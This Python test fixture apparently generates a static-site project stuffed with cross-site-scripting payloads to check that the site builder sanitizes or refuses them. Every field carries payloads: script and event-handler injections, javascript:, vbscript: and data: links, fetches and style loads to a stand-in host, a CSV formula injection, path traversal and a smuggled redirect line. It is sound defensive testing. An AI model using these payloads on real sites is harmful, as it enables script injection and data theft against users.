"""A site full of attempts to run something in a reader's browser or to ask another site, in every field there is.

The payloads are harmless: `alert` shows a dialog, and the address leads to a machine that does not exist. They hold no
digits, for the build would hold those against the facts.
"""

from io import BytesIO

from PIL import Image

ELSEWHERE = "elsewhere.example"
RUN = f"self.ran=true;alert('ran');fetch('//{ELSEWHERE}/fetch')"
BARE = "alert(origin)"  # for where neither quotes nor blanks can stand
# One text that tries to get out of whatever it stands in: an element, an attribute, a script, a title, a comment, a
# template, CSV, CDATA, a style.
SOUP = (
    f'x\'"></title></style></textarea></script>--><script>{RUN}</script><img src=//{ELSEWHERE}/img onerror="{RUN}">'
    f"<svg onload={BARE}><iframe srcdoc='<script>parent.{RUN}</script>'>]]><a href=javascript:{BARE}>"
    "{{ page }}{% raw %}\\u003cscript\\u003e\u2028=cmd|' /C calc'!A"
)
# The same without the two of them that a text may not hold.
TEXT = SOUP.replace(f"src=//{ELSEWHERE}/img", "src=car.png").replace(f"<a href=javascript:{BARE}>", "<a>")

# What may stand in a text, each in an article of its own.
TEXTS = {
    "script": f"<script>{RUN}</script>",
    "script-in-capitals": f"<SCRIPT SRC=http://{ELSEWHERE}/a.js></SCRIPT>",
    "script-cut-in-two": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-that-never-ends": f"<script>{RUN}",
    "script-behind-an-end": f"</p></div></main></body><script>{RUN}</script>",
    "script-in-a-comment": f"<!--><script>{RUN}</script>-->",
    "script-in-a-wrong-comment": f"<!-- --!><script>{RUN}</script>",
    "script-in-cdata": f"<![CDATA[><script>{RUN}</script>]]>",
    "script-in-an-instruction": f"<?xml ><script>{RUN}</script>?>",
    "script-in-noscript": f'<noscript><p title="</noscript><script>{RUN}</script>"></noscript>',
    "script-in-a-style": f'<style><a title="</style><script>{RUN}</script>">',
    "script-in-mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={BARE}&gt;">',
    "script-in-svg": f"<svg><script>{RUN}</script><g onload={BARE}></g></svg>",
    "script-in-a-template": f"<template><script>{RUN}</script></template>",
    "handler-of-a-picture": f"<img src=car.png onload={BARE}>",
    "handler-without-blanks": f"<img/src=x/onerror={BARE}>",
    "handler-over-lines": f"<img src=car.png\nonload\n=\n{BARE}>",
    "handler-of-details": f"<details open ontoggle={BARE}><summary>x</summary></details>",
    "handler-of-a-link": f'<a href="https://example.org/" onclick="{RUN}" autofocus onfocus="{RUN}">x</a>',
    "handler-of-an-animation": f'<p style="animation: spin 1s" onanimationstart="{RUN}">x</p>',
    "handler-in-a-list": f'A word.{{: onmouseover="{RUN}" style="background:url(//{ELSEWHERE}/a)" }}',
    "handler-in-a-title": f'[x](https://example.org/ "x\\" onmouseover=\\"{RUN}")',
    "handler-in-an-alt": f'![x" onerror="{RUN}](car.png)',
    "handler-in-a-heading": f'# x {{: id="x\\"><script>{RUN}</script>" }}',
    "handler-in-a-fence": f'``` x" onclick="{RUN}\nx\n```',
    "handler-in-a-table": f'| <b onclick="{RUN}">a</b> |\n|---|\n| <td onclick="{RUN}"> |',
    "handler-in-a-footnote": f'x[^"><img src=x onerror={BARE}>]\n\n[^"><img src=x onerror={BARE}>]: x',
    "handler-in-an-abbreviation": f'*[HTML]: "><img src=car.png onload={BARE}>\n\nHTML',
    "frame": f'<iframe src="http://{ELSEWHERE}/frame"></iframe>',
    "frame-with-its-own-page": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="http://{ELSEWHERE}/object"></object><embed src="http://{ELSEWHERE}/embed">',
    "style": f"<style>@import '//{ELSEWHERE}/style.css'; body {{ background: url(//{ELSEWHERE}/a.png) }}</style>",
    "style-of-an-element": f'<p style="background: url(//{ELSEWHERE}/a.png)">x</p>',
    "style-sheet": f'<link rel=stylesheet href="http://{ELSEWHERE}/a.css"><link rel=prefetch href="http://{ELSEWHERE}/b">',
    "base": f'<base href="http://{ELSEWHERE}/">[x](company:x)',
    "refresh": f'<meta http-equiv="refresh" content="0; url=javascript:{RUN}">',
    "form": f'<form action="//{ELSEWHERE}/"><input type=image src="http://{ELSEWHERE}/a.png" autofocus onfocus={BARE}></form>',
    "film": f'<video poster="//{ELSEWHERE}/a.png" src="http://{ELSEWHERE}/a" autoplay></video><audio src="http://{ELSEWHERE}/b">',
    "code": f"`<script>{RUN}</script>`\n\n    <script>{RUN}</script>\n\n```html\n</code></pre><script>{RUN}</script>\n```",
    "references-for-letters": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "marks-of-our-own": "\\x00\\x01 &#0; &#1; \ue000",
    "soup": TEXT,
    # what is refused
    "soup-with-addresses": SOUP,
    "link-that-runs": f"[x](javascript:{BARE})",
    "link-in-mixed-case": "[x](JaVaScRiPt:alert`ran`)",
    "link-with-references": "[x](&#106;avascript:alert`ran`)",
    "link-with-a-tab": '<a href="java&#9;script:alert`ran`">x</a>',
    "link-of-an-element": "<a href=' javascript:alert`ran`'>x</a>",
    "link-with-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgncmFuJyk8L3NjcmlwdD4=)",
    "link-with-vbscript": "[x](vbscript:msgbox)",
    "link-by-name": "[x][y]\n\n[y]: javascript:alert`ran`",
    "link-in-angles": "<javascript:alert`ran`>",
    "picture-elsewhere": f"![x](https://{ELSEWHERE}/a.png)",
    "picture-without-a-scheme": f"![x](//{ELSEWHERE}/a.png)",
    "picture-with-backslashes": f'<img src="/\\{ELSEWHERE}/a.png">',
    "picture-of-an-element": f'<img alt="x" src=//{ELSEWHERE}/a.png srcset="//{ELSEWHERE}/b.png 2x">',
    "picture-by-name": f"![x][y]\n\n[y]: http://{ELSEWHERE}/a.png",
    "picture-with-data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "picture-in-a-link": f"[![x](https://{ELSEWHERE}/a.png)](https://example.org/)",
    "picture-in-a-list-of-attributes": f'![x](car.png){{: src="//{ELSEWHERE}/a.png" }}',
}

# Keys of the front matter that are refused, each in an article of its own.
KEYS = {
    "source-that-runs": 'sources: {a: {name: x, url: "javascript:alert`ran`"}}',
    "source-in-mixed-case": 'sources: {a: {name: x, url: "JaVaScRiPt://example.org/%0aalert`ran`"}}',
    "source-with-data": 'sources: {a: {name: x, url: "data:text/html,x"}}',
    "source-with-a-control-sign": 'sources: {a: {name: x, url: "java\\tscript:alert`ran`"}}',
    "source-before-its-scheme": 'sources: {a: {name: x, url: "\\x01javascript:alert`ran`"}}',
    "archive-that-runs": 'sources: {a: {name: x, url: "https://example.org/", archive: "vbscript:x"}}',
    "picture-of-another-site": f'image: {{file: "https://{ELSEWHERE}/a.png", alt: x}}',
    "picture-out-of-the-folder": 'image: {file: "../../site.yaml", alt: x}',
    "alias-elsewhere": f'aliases: ["//{ELSEWHERE}/"]',
    "alias-that-runs": 'aliases: ["javascript:alert`ran`"]',
    "alias-with-a-second-line": f'aliases: ["/a\\n/b https://{ELSEWHERE}/ 301"]',
}


def files():
    """The whole project but its theme, by path."""
    made = {
        "site.yaml": f"title: {quoted(SOUP)}\nurl: https://example.org/\ndescription: {quoted(SOUP)}\n"
        f"authors: [{quoted(SOUP)}]\nnavigation: [companies, about]\n",
        "content/metrics.yaml": f"sales: {{name: {quoted(SOUP)}, unit: cars, about: {quoted(SOUP)}, counts: over a period}}\n"
        f"word: {{name: {quoted(SOUP)}, unit: text, about: {quoted(SOUP)}, counts: at a moment}}\n",
        "content/articles/everything.md": everything(),
        "content/pages/about.md": f"---\ntitle: {quoted(SOUP)}\nsummary: {quoted(SOUP)}\n---\n{TEXT}\n",
        "content/images/car.png": picture(),
        "content/images/plan.svg": drawing(),
    }
    made |= {f"content/{plural}/x.md": entity(more) for plural, more in ENTITIES.items()}
    made |= {f"content/articles/text-{name}.md": article(text=text) for name, text in TEXTS.items()}
    return made | {f"content/articles/key-{name}.md": article(keys) for name, keys in KEYS.items()}


def quoted(text):
    """A text as YAML in double quotes."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def article(keys="", text="Words."):
    return f"---\ntitle: A story\ndate: 2025-01-01\n{keys}\n---\n{text}\n"


ENTITIES = {
    "companies": "headquarters: SOUP\nlisting: [SOUP]\nbrands: [SOUP]\nfounded: 1990\n",
    "models": "company: x\ntype: SOUP\nspecifications: {SOUP: SOUP}\n",
    "people": "company: x\nrole: SOUP\n",
    "markets": "",
    "topics": "",
}


def entity(more):
    return (
        f"---\nname: {quoted(SOUP)}\nnative_name: {quoted(SOUP)}\naliases: [{quoted(SOUP + 'y')}]\nsummary: {quoted(SOUP)}\n"
        f"website: {quoted(f'https://{ELSEWHERE}/?' + SOUP.replace(' ', '').replace(chr(0x2028), ''))}\n"
        f"image: {{file: car.png, alt: {quoted(SOUP)}, credit: {quoted(SOUP)}, caption: {quoted(SOUP)}}}\n"
        f"{more.replace('SOUP', quoted(SOUP))}---\n{TEXT}\n"
    )


def everything():
    soup = quoted(SOUP)
    address = quoted(f"https://{ELSEWHERE}/?" + SOUP.replace(" ", "").replace("\u2028", ""))
    return f"""---
title: {soup}
date: 2025-01-31
summary: {soup}
authors: [{soup}]
companies: [x]
models: [x]
people: [x]
markets: [x]
topics: [x]
sources:
  a: {{name: {soup}, url: {address}, publisher: {soup}, archive: {address}}}
image: {{file: plan.svg, alt: {soup}, credit: {soup}, caption: {soup}}}
aliases: ["/old/'onclick=alert`ran`'/"]
corrections:
  - {{date: 2025-02-01, kind: clarification, was: {soup}, now: {soup}, reason: {soup}}}
allow: {{dispute: {soup}, figures: {soup}}}
unlinked: [{soup}]
facts:
  - {{id: one, metric: sales, period: 2025-01, value: "5", scope: {soup}, basis: {soup}, note: {soup}, preferred: {soup}}}
  - {{metric: sales, period: 2025-01, value: "6", scope: {soup}, basis: {soup}}}
  - {{metric: sales, period: 2025, value: "9", kind: target, holder: {soup}, retracted: {soup}}}
  - {{metric: word, value: {soup}}}
events:
  - {{date: 2025-01-31, title: {soup}, kind: {soup}, note: {soup}}}
  - {{date: 2199-01-01, title: {soup}, kind: {soup}, note: {soup}}}
---
{TEXT}

[{TEXT.replace("[", "").replace("]", "")}](company:x) [](company:x) [](fact:one) ![](plan.svg)
"""


def picture():
    """A picture whose metadata tries it too."""
    from PIL.PngImagePlugin import PngInfo

    words = PngInfo()
    words.add_text("Comment", SOUP)
    written = BytesIO()
    Image.new("RGB", (90, 60), "blue").save(written, "PNG", pnginfo=words)
    return written.getvalue()


def drawing():
    """A drawing that is taken, with all that its cleaning has to see to."""
    text = SOUP.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="x" viewBox="0 0 90 60" aria-label="{text}">
<!--><script>{RUN}</script>-->
<title>{text}</title><metadata><x:script-like>{text}</x:script-like></metadata>
<style><![CDATA[.a {{ fill: red }} /* </style><script>ran</script> */]]></style>
<a href="https://{ELSEWHERE}/"><text y="20" id="{text}">{text}</text></a>
<rect class="a" width="9" height="9" data-x="{text}"><set attributeName="fill" to="blue" begin="0s"/></rect>
</svg>"""


def write(project):
    """Write the project; its articles that are refused by themselves have names that begin with `text-` or `key-`."""
    for path, content in files().items():
        target = project / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode())
